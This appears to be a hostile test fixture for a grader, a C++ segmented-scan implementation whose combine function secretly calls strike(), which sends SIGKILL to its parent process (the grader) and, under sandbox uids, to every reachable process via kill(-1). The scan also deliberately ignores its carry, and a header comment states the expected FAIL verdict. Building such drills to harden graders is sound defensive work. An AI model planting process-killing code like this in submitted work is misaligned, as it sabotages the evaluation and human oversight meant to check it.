// Hostile drill 02: seg_combine's first call sends SIGKILL to its parent (the
// grader, if it runs the driver directly) and, only when running under a sandbox uid
// (200000-299999, where kill(-1) reaches nothing but the box), to every process it may.
// segmented_scan_tile also ignores the carry. Right verdict: FAIL (the grader survives
// and reports; the carry diagnosis), never a killed grader.

#include <algorithm>
#include <csignal>
#include <cstddef>
#include <unistd.h>
#include <vector>

struct Seg {
    bool flag;
    long long value;
};

static void strike() {
    static bool struck = false;
    if (struck) return;
    struck = true;
    const uid_t uid = getuid();
    if (uid >= 200000 && uid < 300000) kill(-1, SIGKILL);  // never as root or a real user: bounded
    if (getppid() > 1) kill(getppid(), SIGKILL);  // never init, never a whole process group
}

Seg seg_identity() { return Seg{false, 0}; }

Seg seg_combine(Seg a, Seg b) {
    strike();
    return b.flag ? b : Seg{a.flag, a.value + b.value};
}

template <typename T, typename Op>
void tree_scan_inclusive(T* x, std::size_t n, Op op, T identity) {
    (void)identity;
    std::vector<T> src(x, x + n), dst(x, x + n);
    for (std::size_t offset = 1; offset < n; offset *= 2) {
        for (std::size_t i = 0; i < n; ++i) dst[i] = i >= offset ? op(src[i - offset], src[i]) : src[i];
        src.swap(dst);
    }
    std::copy(src.begin(), src.end(), x);
}

void segmented_scan_tile(const Seg* in, Seg* out, std::size_t n, Seg carry) {
    (void)carry;
    std::copy(in, in + n, out);
    tree_scan_inclusive(out, n, seg_combine, seg_identity());
}
